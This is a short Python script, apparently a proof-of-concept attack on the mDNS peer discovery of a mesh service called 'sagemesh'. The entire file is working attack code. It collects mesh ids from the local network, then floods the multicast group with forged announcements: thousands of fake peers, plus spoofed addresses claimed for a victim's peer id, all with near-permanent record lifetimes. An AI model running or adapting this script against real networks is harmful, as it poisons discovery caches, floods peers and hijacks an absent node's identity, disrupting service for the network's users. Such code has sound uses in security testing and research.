"""Announces 10,000 nodes and 10,000 addresses of one node, as any machine on the network can.

liar.py OWN_ADDRESS VICTIM: OWN_ADDRESS is this machine's, VICTIM the peer id of a node that is away. The names of
meshes are taken from what others say.
"""

import os
import re
import socket
import struct
import sys
import time

GROUP = ("224.0.0.251", 5353)
SERVICE = "_sagemesh._tcp.local"
DIGITS = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
N_LIES = 10_000
PTR, TXT, SRV, A = 12, 16, 33, 1


def name(text):
    return b"".join(bytes([len(it)]) + it.encode() for it in text.split(".")) + b"\0"


def record(owner, kind, data):
    # A life of 68 years.
    return name(owner) + struct.pack(">HHIH", kind, 1, 2**31 - 1, len(data)) + data


def announcement(label, mesh, peer, addresses):
    instance, host = f"{label}.{SERVICE}", f"{label}.local"
    texts = [b"mesh=" + mesh, b"id=" + peer.encode()]
    records = [
        record(SERVICE, PTR, name(instance)),
        record(instance, SRV, struct.pack(">HHH", 0, 0, 7400) + name(host)),
        record(instance, TXT, b"".join(bytes([len(it)]) + it for it in texts)),
    ] + [record(host, A, socket.inet_aton(it)) for it in addresses]
    return struct.pack(">6H", 0, 0x8400, 0, len(records), 0, 0) + b"".join(records)


def stranger():
    number = int.from_bytes(bytes.fromhex("002408011220") + os.urandom(32), "big")
    text = ""
    while number:
        number, digit = divmod(number, 58)
        text = DIGITS[digit] + text
    # The first byte is zero.
    return "1" + text


def address(n):
    return f"10.78.0.{2 + n % 250}"


own, victim = sys.argv[1], sys.argv[2]
link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
link.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
link.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
link.bind(("", GROUP[1]))
group = socket.inet_aton(GROUP[0]) + socket.inet_aton(own)
link.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, group)
link.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
link.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
link.sendto(struct.pack(">6H", 0, 0, 1, 0, 0, 0) + name(SERVICE) + struct.pack(">HH", PTR, 1), GROUP)
link.settimeout(2)
meshes = set()
try:
    while True:
        meshes.update(re.findall(rb"mesh=([0-9a-f]{16})", link.recv(9000)))
except TimeoutError:
    pass
assert meshes, "nobody answers"
for n in range(N_LIES):
    for mesh in meshes:
        # One stranger, and four new addresses of the node that is away.
        link.sendto(announcement(f"liar{n}", mesh, stranger(), [address(n)]), GROUP)
        four = [address(4 * n + idx) for idx in range(4)]
        link.sendto(announcement(f"away{n}", mesh, victim, four), GROUP)
    # About what nodes read, so that they read as much as they ever do.
    time.sleep(0.001)
